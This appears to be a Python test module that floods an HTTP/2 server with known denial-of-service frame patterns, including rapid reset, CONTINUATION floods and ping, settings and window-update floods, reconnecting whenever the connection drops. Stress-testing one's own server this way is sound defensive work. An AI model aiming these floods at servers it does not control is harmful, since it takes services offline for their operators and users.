"""Floods of frames over HTTP/2, each from one thread, which connects again whenever the server closes its connection."""

import select
import struct

from connection import *

START = PREFACE + frame(SETTINGS)
# A path that answers at once, one that waits for long, and one that takes a body.
PATHS = [b"/livez", b"/api/v1/deliveries/wait?timeout=60&query=never", b"/api/v1/deliveries"]


def requests_with(kind, contents):
    """Batches of requests, each followed by a frame for the same stream."""
    stream = 1
    while True:
        batch = b""
        for _ in range(100):
            batch += frame(HEADERS, END_STREAM | END_HEADERS, stream, request(PATHS[stream // 2 % len(PATHS)]))
            batch += frame(kind, 0, stream, contents)
            stream += 2
        yield batch


def rapid_reset():
    """Requests that are reset at once (CVE-2023-44487)."""
    return requests_with(RESET, struct.pack(">I", 8))


def made_to_reset():
    """Requests that the server itself resets, since their window overflows (CVE-2025-8671)."""
    return requests_with(WINDOW_UPDATE, struct.pack(">I", 0x7FFFFFFF))


def continuation():
    """A header block that never ends (CVE-2024-27316)."""
    yield frame(HEADERS, END_STREAM, 1, request(b"/livez"))
    part = b"".join(literal(b"x-flood", b"a" * 100) for _ in range(140))
    while True:
        yield frame(CONTINUATION, 0, 1, part) * 16


def empty_continuation():
    """A header block that never ends, in frames without content."""
    yield frame(HEADERS, END_STREAM, 1, request(b"/livez"))
    while True:
        yield frame(CONTINUATION, 0, 1) * 1000


def pings():
    """PING frames, each of which wants an answer (CVE-2019-9512)."""
    while True:
        yield frame(PING, 0, 0, b"12345678") * 1000


def settings():
    """SETTINGS frames, each of which wants an acknowledgment (CVE-2019-9515)."""
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 1000


def empty_data():
    """DATA frames without content (CVE-2019-9518)."""
    yield frame(HEADERS, END_HEADERS, 1, request(b"/api/v1/devices", b"POST"))
    while True:
        yield frame(DATA, 0, 1) * 1000


def window_updates():
    """WINDOW_UPDATE frames of one byte."""
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000


def many_streams():
    """As many requests as the server accepts, without a pause, whose responses nobody reads."""
    stream = 1
    while True:
        batch = b""
        for _ in range(100):
            batch += frame(HEADERS, END_STREAM | END_HEADERS, stream, request(PATHS[2]))
            stream += 2
        yield batch


FLOODS = [
    rapid_reset, made_to_reset, continuation, empty_continuation, pings, settings, empty_data, window_updates, many_streams,
]


def flood(kind, port, stop):
    """Floods until it must stop, and returns a summary for the table."""
    connections = sent = 0
    while not stop.is_set():
        try:
            with connect_encrypted(port) as connection:
                connections += 1
                connection.sendall(START)
                for batch in kind():
                    connection.sendall(batch)
                    sent += len(batch)
                    # Reads only as much as shows that the server has closed the connection.
                    if kind is not many_streams and select.select([connection], [], [], 0)[0]:
                        if not connection.recv(65536):
                            break
                    if stop.is_set():
                        break
        except OSError:
            pass
    return f"{connections} connections, {sent / 1e6:.1f} MB"


def run(kind, port, stop, results):
    """Runs in a separate process."""
    results.put(flood(kind, port, stop))
